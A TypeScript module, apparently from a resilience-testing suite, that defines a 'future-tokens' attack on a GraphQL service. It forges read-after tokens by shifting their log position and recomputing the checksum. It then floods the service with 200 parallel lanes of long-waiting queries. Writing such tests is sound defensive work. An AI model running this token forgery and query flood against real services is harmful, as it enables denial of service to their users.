import { crc32 } from 'node:zlib';
import type { Attack } from '../../attack.ts';
import type { Attacker } from '../../attacker.ts';

const LANES = 200;

export const futureTokens: Attack = {
  name: 'future-tokens',
  description: `reads after positions that the log will have much later, ${LANES} at a time, for 10 seconds each`,
  run: async (attacker) => {
    const { id, token } = await attacker.customer();
    const [soon, never] = [
      await tokenAhead(attacker, token, id, 5_000),
      await tokenAhead(attacker, token, id, 2 ** 40),
    ];
    const query =
      'query ($id: ID!, $after: String!) @readAfter(token: $after, timeoutMs: 10000) { customer(id: $id) { name } }';
    await attacker.repeat(LANES, 20_000, (nth) =>
      attacker.query(query, { id, after: nth % 2 === 0 ? soon : never }, token),
    );
  },
};

/** A token of the same store, so many positions further: its checksum is no secret. */
async function tokenAhead(attacker: Attacker, token: string, id: string, by: number): Promise<string> {
  const { body } = await attacker.command('renameCustomer', { customerId: id, name: 'Mallory' }, token);
  const given = /"token":"([\w-]{36})"/.exec(body)?.[1];
  if (!given) throw new Error(`There is no token in ${body}`);
  const bytes = Buffer.from(translated(given, ALPHABET, BASE64URL), 'base64url');
  bytes.writeBigUInt64BE(bytes.readBigUInt64BE(17) + BigInt(by), 17);
  bytes.writeUInt16BE(crc32(bytes.subarray(0, 25)) & 0xffff, 25);
  return translated(bytes.toString('base64url'), BASE64URL, ALPHABET);
}

/** The characters of a token in the order of their codes, as six bits each. */
const ALPHABET = '-0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ_abcdefghijklmnopqrstuvwxyz';
const BASE64URL = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';

function translated(text: string, from: string, to: string): string {
  return [...text].map((character) => to[from.indexOf(character)]).join('');
}
